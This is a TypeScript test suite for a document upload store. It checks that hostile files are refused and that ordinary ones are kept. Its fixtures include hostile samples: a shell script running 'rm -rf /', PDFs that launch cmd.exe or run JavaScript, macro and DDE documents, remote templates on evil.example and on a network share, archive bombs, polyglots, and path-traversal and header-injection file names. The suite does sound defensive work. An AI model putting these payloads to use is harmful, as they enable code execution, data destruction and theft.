import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { archive, filesIn, inPieces, memoryVault } from '../../../test/support/files.js';
import { folder as onDisk } from './disk.js';
import { FileRefused } from './kinds.js';
import { plainFileName } from './names.js';
import { fileStore } from './store.js';

const OWNER = 'person-1';
const folder = mkdtempSync(join(tmpdir(), 'jurilien-hostile-'));
const store = fileStore(memoryVault(), onDisk(folder));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const text = (words: string): Buffer => Buffer.from(words, 'latin1');
const pdf = (body = ''): Buffer => text(`%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF`);
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAMCAgMCAgMDAwMEAwMEBQgFBQQEBQoHBwYIDAoMDAsKCwsNDhIQDQ4RDgsLEBYQERMUFRUVDA8XGBYUGBIUFRT/2wBDAQMEBAUEBQkFBQkUDQsNFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBT/wAARCAAwAEADAREAAhEBAxEB/8QAFwABAQEBAAAAAAAAAAAAAAAAAAgKCf/EABQQAQAAAAAAAAAAAAAAAAAAAAD/xAAZAQEAAwEBAAAAAAAAAAAAAAAABwkKBgj/xAAUEQEAAAAAAAAAAAAAAAAAAAAA/9oADAMBAAIRAxEAPwCdEGLUwAAFjISZjwAAEcptacAAAFjISZjwAAEcptacAAAFjISZjwAAHLxoze5QAAGltVY7gAABmkWpuHAAAaW1VjuAAAGaRam4cAABpbVWO4AAAf/Z',
  'base64',
);
const JAR = archive({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil', 'Evil.class': 'cafebabe' });
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';

const TYPES = '<Types/>';
const docx = (parts: Readonly<Record<string, string | Uint8Array>> = {}, making?: Parameters<typeof archive>[1]): Buffer =>
  archive({ '[Content_Types].xml': TYPES, 'word/document.xml': '<w:document/>', ...parts }, making);
const xlsx = (parts: Readonly<Record<string, string | Uint8Array>> = {}): Buffer =>
  archive({ '[Content_Types].xml': TYPES, 'xl/workbook.xml': '<workbook/>', ...parts });
const odt = (parts: Readonly<Record<string, string | Uint8Array>> = {}): Buffer =>
  archive({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<office/>', ...parts });
const relation = (type: string, target: string, mode = 'External'): Record<string, string> => ({
  'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
});
const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * 1024 * 1024);

/** An archive whose list names one entry several times: each unpacks the same bytes. */
function sharing(): Buffer {
  const once = docx({ 'a.bin': zeros(1) }, { packed: true });
  const end = once.lastIndexOf('PK\x05\x06');
  const from = once.readUInt32LE(end + 16);
  const list = once.subarray(from, end);
  const last = list.lastIndexOf('PK\x01\x02');
  const again = Array.from({ length: 50 }, (_, i) => {
    const entry = Buffer.from(list.subarray(last));
    entry.write(String.fromCharCode(98 + (i % 24)), 46);
    return entry;
  });
  const longer = Buffer.concat([list, ...again]);
  const tail = Buffer.from(once.subarray(end));
  tail.writeUInt16LE(3 + again.length, 8);
  tail.writeUInt16LE(3 + again.length, 10);
  tail.writeUInt32LE(longer.length, 12);
  return Buffer.concat([once.subarray(0, from), longer, tail]);
}
/** An archive whose entries call themselves something else than the list does. */
function renamed(): Buffer {
  const made = docx({ 'word/media/a.png': 'x' });
  made.write('word/media/a.exe', made.indexOf('word/media/a.png'));
  return made;
}

const REFUSED: readonly [because: string, what: string, make: () => Buffer][] = [
  ['empty', 'nothing', () => Buffer.alloc(0)],
  ['too-large', 'twenty-five megabytes', () => Buffer.concat([pdf(), zeros(25)])],
  ['kind', 'a page of the web', () => text('<!doctype html><script>alert(1)</script>')],
  ['kind', 'a drawing with a script', () => text(SVG)],
  ['kind', 'a drawing with a head of XML', () => text(`<?xml version="1.0"?>\n${SVG}`)],
  ['kind', 'a script with a mark of Unicode before it', () => text(`\xef\xbb\xbf${SVG}`)],
  ['kind', 'a programme of Windows', () => text('MZ\x90\0'.padEnd(600, '\0'))],
  ['kind', 'a programme of Linux', () => text('\x7fELF'.padEnd(600, '\0'))],
  ['kind', 'a script of a shell', () => text('#!/bin/sh\nrm -rf /')],
  ['kind', 'a GIF that is a programme too', () => Buffer.concat([text('GIF89a'), JAR])],
  ['kind', 'a PDF behind other bytes', () => Buffer.concat([text('\n\n'), pdf()])],
  ['kind', 'a PDF behind a GIF', () => Buffer.concat([text('GIF89a'), pdf()])],
  ['kind', 'an old document of Word', () => Buffer.from(`d0cf11e0a1b11ae1${'00'.repeat(600)}`, 'hex')],
  ['kind', 'a compressed archive', () => Buffer.from('1f8b0800000000000003', 'hex')],
  ['kind', 'an archive of another kind', () => text('Rar!\x1a\x07\x00'.padEnd(100, '\0'))],
  ['kind', 'an archive of nothing that is known', () => archive({ 'readme.txt': 'x' })],
  ['active', 'a programme of Java', () => JAR],
  ['kind', 'rich text', () => text('{\\rtf1 {\\object\\objemb}}')],
  ['active', 'a PDF that is an archive too', () => Buffer.concat([pdf(), archive({ 'evil.html': SVG })])],
  ['active', 'a PDF that is a programme of Java too', () => Buffer.concat([pdf(), JAR])],
  [
    'active',
    'a PDF that is an archive with a remark behind it',
    () => {
      const zip = archive({ 'evil.html': SVG });
      zip.writeUInt16LE(6, zip.length - 2);
      return Buffer.concat([pdf(), zip, text('%%EOF\n')]);
    },
  ],
  ['active', 'a PDF with a script', () => pdf('2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj')],
  ['active', 'a PDF that starts a programme', () => pdf('2 0 obj << /S /Launch /F (cmd.exe) >> endobj')],
  [
    'active',
    'a PDF whose table of objects is a bomb',
    () =>
      Buffer.concat([
        text('%PDF-1.7\n9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n'),
        deflateSync(zeros(200)),
        text('\nendstream endobj\ntrailer << >>\n%%EOF'),
      ]),
  ],
  ['active', 'a letter with macros', () => docx({ 'word/vbaProject.bin': 'x' })],
  [
    'active',
    'a letter whose macros have another name',
    () =>
      docx({
        '[Content_Types].xml': '<Types><Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
      }),
  ],
  [
    'active',
    'a letter with macros that only a relation names',
    () => docx({ 'word/a.dat': 'x', ...relation('vbaProject', 'a.dat', 'Internal') }),
  ],
  [
    'active',
    'a letter that says it has macros',
    () =>
      docx({ '[Content_Types].xml': '<Types><Default ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>' }),
  ],
  ['active', 'a letter with a control', () => docx({ 'word/activeX/activeX1.xml': '<ocx/>' })],
  [
    'active',
    'a letter with an object of another programme',
    () => docx({ 'word/embeddings/oleObject1.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
  ],
  ['active', 'a letter with a programme in disguise', () => docx({ 'word/media/image1.png': text('MZ\x90\0') })],
  ['active', 'a letter with a packed programme in disguise', () => docx({ 'word/media/image1.png': text('MZ\x90\0') }, { packed: true })],
  ['active', 'a letter with a programme', () => docx({ 'word/run.EXE': 'x' })],
  ['active', 'a letter with a template of the web', () => docx(relation('attachedTemplate', 'https://evil.example/a.dotm'))],
  [
    'active',
    'a letter with a template on a share of a network',
    () => docx(relation('attachedTemplate', '\\\\198.51.100.7\\share\\a.dotm')),
  ],
  ['active', 'a letter with a picture on a share of a network', () => docx(relation('image', 'file://198.51.100.7/share/a.png'))],
  [
    'active',
    'a letter with an object of the web',
    () => docx(relation('oleObject', 'mhtml:https://evil.example/!x-usc:https://evil.example')),
  ],
  ['active', 'a letter with a page of the web in it', () => docx(relation('aFChunk', 'a.html', 'Internal'))],
  ['active', 'a letter with a link that is a script', () => docx(relation('hyperlink', 'java&#x73;cript:alert(1)'))],
  [
    'active',
    'a letter that asks another programme',
    () => docx({ 'word/document.xml': '<w:p><w:instrText>DDE</w:instrText><w:t/><w:instrText>AUTO cmd.exe</w:instrText></w:p>' }),
  ],
  ['active', 'a letter with a simple field that does', () => docx({ 'word/footer1.xml': '<w:fldSimple w:instr=" DDE excel a b"/>' })],
  ['active', 'a letter whose words name each other', () => docx({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY a "aaaa">]><w:document/>' })],
  ['active', 'a letter in another coding', () => docx({ 'word/document.xml': Buffer.from('\ufeff<w:document/>', 'utf16le') })],
  [
    'active',
    'a letter that says it is in another coding',
    () => docx({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><w:document/>' }),
  ],
  ['active', 'a letter whose paths lead out of it', () => docx({ '../../evil.txt': 'x' })],
  ['active', 'a letter with two parts of one name', () => docx({ 'WORD/document.xml': 'x' })],
  ['active', 'a letter whose parts call themselves otherwise', renamed],
  ['active', 'a workbook with macros of the old kind', () => xlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' })],
  ['active', 'a text with macros', () => odt({ 'Basic/Standard/Module1.xml': '<x/>' })],
  ['active', 'a text with a script', () => odt({ 'Scripts/python/a.py': 'x' })],
  [
    'active',
    'a text that runs a script when it opens',
    () => odt({ 'content.xml': '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>' }),
  ],
  ['active', 'a text with a part on a share of a network', () => odt({ 'content.xml': '<draw:image xlink:href="\\\\198.51.100.7\\a"/>' })],
  ['encrypted', 'a letter that is locked', () => docx({}, { flags: 1 })],
  ['active', 'a letter that unpacks to gigabytes', () => docx({}, { claimed: 900_000_000 })],
  ['active', 'a letter that unpacks to much more than it is', () => docx({ 'word/a.bin': zeros(50) }, { packed: true })],
  ['active', 'a letter that unpacks to more than its list says', () => docx({ 'word/a.bin': zeros(50) }, { packed: true, claimed: 1_000 })],
  ['active', 'a letter whose parts share their bytes', sharing],
  ['active', 'a letter with an archive in it', () => docx({ 'word/media/image1.png': archive({ 'a.txt': 'x' }) })],
  ['active', 'a letter in a letter in a letter', () => docx({ 'word/embeddings/a.docx': docx({ 'word/embeddings/b.docx': docx() }) })],
  [
    'active',
    'a letter with a letter in it that has macros',
    () => docx({ 'word/embeddings/a.docx': docx({ 'word/vbaProject.bin': 'x' }) }),
  ],
  [
    'active',
    'a letter that does not unpack',
    () => {
      const made = docx({ 'word/a.bin': Buffer.alloc(5_000, 'abc') }, { packed: true });
      return made.fill(0xff, made.indexOf('word/a.bin') + 10, made.indexOf('word/a.bin') + 20);
    },
  ],
  ['kind', 'a letter that was cut', () => docx().subarray(0, -30)],
  ['kind', 'a letter with bytes behind its end', () => Buffer.concat([docx(), text(SVG)])],
];

describe('a hostile file', () => {
  it.each(REFUSED)('is refused as %s: %s', async (because, _what, make) => {
    const answer = store.keep(OWNER, inPieces(make(), 65_536)).then(
      ({ type }) => `kept as ${type}`,
      (error: unknown) => (error instanceof FileRefused ? error.because : String(error)),
    );
    expect(await answer).toBe(because);
    expect(filesIn(folder)).toEqual([]);
  });

  it.each<[string, () => Buffer]>([
    [
      'a page of the web in a remark',
      () => Buffer.concat([JPEG.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, 2 + SVG.length]), text(SVG), JPEG.subarray(2)]),
    ],
    ['a page of the web behind a JPEG', () => Buffer.concat([JPEG, text(SVG)])],
    ['a programme of Java behind a JPEG', () => Buffer.concat([JPEG, JAR])],
    ['a programme of Java behind a PNG', () => Buffer.concat([PNG, JAR])],
    ['a PDF behind a PNG', () => Buffer.concat([PNG, pdf('<< /S /JavaScript >>')])],
  ])('is only the picture that it is: %s', async (_what, make) => {
    const { fileId, cleaned } = await store.keep(OWNER, inPieces(make()));
    const { bytes } = (await store.open(OWNER, fileId))!;
    expect(bytes.toString('latin1')).not.toMatch(/<svg|PK\x03\x04|PK\x05\x06|%PDF|MANIFEST/);
    expect(cleaned).toEqual(['metadata']);
    await store.remove(fileId);
  });
});

describe('an ordinary document', () => {
  const link = relation('hyperlink', 'https://www.justice.gouv.qc.ca/');
  it.each<[string, string, () => Buffer]>([
    ['docx', 'a letter with a link', () => docx(link, { packed: true })],
    ['docx', 'a letter with a picture of the web', () => docx(relation('image', 'https://exemple.ca/logo.png'))],
    ['docx', 'a letter made from a template of the firm', () => docx(relation('attachedTemplate', 'file:///C:\\Modeles\\Lettre.dotx'))],
    ['docx', 'a letter with a field for its date', () => docx({ 'word/document.xml': '<w:instrText> DATE \\@ "d MMMM" </w:instrText>' })],
    ['docx', 'a letter with a table behind its diagram', () => docx({ 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': xlsx() })],
    [
      'docx',
      'a letter with folders and photos',
      () => docx({ 'word/media/': '', 'word/media/image1.jpg': JPEG, 'word/media/image2.png': PNG }),
    ],
    [
      'xlsx',
      'a workbook that names another one',
      () =>
        xlsx({
          'xl/externalLinks/_rels/externalLink1.xml.rels': relation('externalLinkPath', 'Budget%202025.xlsx')[
            'word/_rels/document.xml.rels'
          ]!,
        }),
    ],
    ['xlsx', 'a workbook of many cells', () => xlsx({ 'xl/worksheets/sheet1.xml': Buffer.alloc(8_000_000, '<c r="A1"><v>12</v></c>') })],
    [
      'odt',
      'a text with a link',
      () => odt({ 'content.xml': '<text:a xlink:href="https://exemple.ca/"/>', 'META-INF/manifest.xml': '<manifest/>' }),
    ],
    [
      'pdf',
      'a PDF whose data looks like the end of an archive',
      () => pdf(`2 0 obj << >> stream\nPK\x05\x06${'\x01'.repeat(40)}\nendstream endobj`),
    ],
  ])('is kept as it was sent: %s, %s', async (type, _what, make) => {
    const kept = await store.keep(OWNER, inPieces(make(), 65_536));
    expect(kept.type).toBe(type);
    expect((await store.open(OWNER, kept.fileId))!.bytes.equals(make())).toBe(true);
    await store.remove(kept.fileId);
  });

  it('may be packed as tightly as programmes pack', async () => {
    const words = Buffer.alloc(1_000_000, 'Le locataire paie le loyer le premier jour de chaque mois. ');
    expect(deflateRawSync(words).length).toBeLessThan(words.length / 100);
    expect((await store.keep(OWNER, inPieces(docx({ 'word/document.xml': words }, { packed: true })))).type).toBe('docx');
  });
});

describe('the name of a file', () => {
  it.each([
    ['Bail de Mme Roy.pdf', 'Bail de Mme Roy.pdf'],
    ['facture\u202Efdp.exe', 'facture fdp.exe'],
    ['a\u0000b\r\nSet-Cookie: x.pdf', 'a b Set-Cookie: x.pdf'],
    ['..\\..\\windows\\win.ini', '.. .. windows win.ini'],
    ['/etc/passwd', 'etc passwd'],
    ['\u200B\u2066\u2069', ''],
    ['page\u2028deux.pdf', 'page deux.pdf'],
    ['  reçu   d’hôpital\t.pdf ', 'reçu d’hôpital .pdf'],
    ['e\u0301te\u0301.pdf', 'été.pdf'],
  ])('has no sign that a path, a header or a reader could trip over: %j', (called, plain) => {
    expect(plainFileName(called, 200)).toBe(plain);
  });

  it('is cut in its middle, between whole letters, so that its ending stays', () => {
    const long = plainFileName(`${'😀'.repeat(300)}.pdf`, 100);
    expect([...long]).toHaveLength(100);
    expect(long.startsWith('😀😀')).toBe(true);
    expect(long.endsWith('😀.pdf')).toBe(true);
    expect(long).toContain('…');
  });
});
